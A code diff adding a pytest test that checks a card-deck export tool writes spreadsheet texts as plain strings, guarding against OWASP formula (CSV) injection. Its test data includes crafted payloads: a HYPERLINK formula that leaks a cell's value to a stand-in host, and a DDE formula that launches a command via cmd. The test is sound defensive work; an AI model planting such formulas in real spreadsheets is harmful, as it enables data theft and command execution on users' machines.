@@ -7,12 +7,13 @@ from pathlib import Path
 
 import openpyxl
 import pytest
+import yaml
 
 from osallisuuspeli.cli import main
 from osallisuuspeli.load import BUILTIN_DECKS, load_deck
 from osallisuuspeli.workbook import workbook
 
-from .conftest import DECKS, LANGUAGES, snapshot
+from .conftest import DECKS, LANGUAGES, first_cards, snapshot
 from .pdfcheck import squeeze, text_of
 
 
@@ -417,3 +418,37 @@ def test_lang_in_capitals_is_the_language(runner, tmp_path):
     result = runner.invoke(main, ["build", "--deck", "kunta", "--lang", "SV", "--out", str(tmp_path), "-q"])
     assert result.exit_code == 0, result.output
     assert [p.name for p in tmp_path.iterdir()] == ["sv"]
+
+
+CRAFTED = [
+    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=2+2",
+    '=DDE("cmd";"/C calc";"A0")',
+]  # (a | would be the workbook's break mark)
+
+
+def test_export_writes_every_text_as_text_never_a_formula(runner, tmp_path):
+    """OWASP CSV injection: texts that start like a formula are string cells and read back unchanged."""
+    deck = first_cards("kunta", tmp_path / "deck", 8)
+    texts = yaml.safe_load((deck / "fi.yaml").read_text(encoding="utf-8"))
+    for card, crafted in zip(texts["cards"].values(), CRAFTED):
+        card["description"] = crafted
+    texts["name"] = "=1+2"
+    (deck / "fi.yaml").write_text(yaml.safe_dump(texts, allow_unicode=True), encoding="utf-8")
+    out = tmp_path / "deck.xlsx"
+    result = runner.invoke(main, ["export", str(deck), str(out)])
+    assert result.exit_code == 0, result.output
+    book = openpyxl.load_workbook(out)
+    formulas = [c.coordinate for ws in book.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
+    assert formulas == []
+    cards = {c.value: c for c in book["Cards"]["C"]}  # description_fi (the municipal deck has no theme column)
+    assert all(cards[t].data_type == "s" for t in CRAFTED if not t.startswith(("\t", "\r")))
+    assert cards[CRAFTED[0]].quotePrefix is True
+    read = load_deck(out, "fi")
+    # the tool's own reader gives back what was written (its texts trimmed of leading tabs and line breaks, as YAML's are)
+    assert [c.description for c in read.cards[: len(CRAFTED)]] == [load_deck(deck, "fi").cards[i].description for i in range(len(CRAFTED))]
+    assert read.name == "=1+2"
